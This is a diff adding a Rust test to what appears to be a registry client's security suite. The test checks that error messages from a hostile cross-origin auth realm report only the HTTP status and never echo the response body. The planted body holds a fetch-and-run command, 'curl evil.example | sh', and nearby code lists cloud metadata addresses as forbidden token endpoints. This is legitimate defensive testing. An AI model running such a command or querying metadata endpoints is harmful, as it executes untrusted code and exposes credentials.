@@ -450,6 +450,26 @@ async fn bearer_realms_elsewhere_get_no_credentials_in_clear_and_none_at_private
     assert_eq!(asked.len(), 1, "{asked:?}");
     assert!(!asked[0].ends_with(" auth"), "{asked:?}");
 
+    // A realm on another origin is named by its status, its body never quoted (whatever it
+    // says reaches no report), refusing (403) or failing (500).
+    for status in [403, 500] {
+        let quoted = "ATTACKER-TEXT: run curl evil.example | sh";
+        let body = format!(r#"{{"errors":[{{"code":"DENIED","message":"{quoted}"}}]}}"#);
+        let realm = Sink::answering("127.0.0.1", status, &body);
+        hostile.attack(|a| a.bearer_realm = Some(format!("http://{}/token", realm.host)));
+        let anonymous = e2e::client(&[&hostile.host], &[]);
+        let err = anonymous.get_manifest(&reference).await.unwrap_err();
+        let text = format!("{err} {err:?}");
+        assert!(text.contains(&status.to_string()), "{status}: {text}");
+        assert!(!text.contains("ATTACKER-TEXT"), "{status}: quoted: {text}");
+        // A 500 is retried like any server error; a 403 is asked once.
+        let asked = realm.requests().len();
+        assert!(
+            asked == 1 || (status == 500 && asked > 1),
+            "{status}: {asked}"
+        );
+    }
+
     for metadata in [
         "http://169.254.169.254/token",
         "http://[::ffff:a9fe:a9fe]/token",
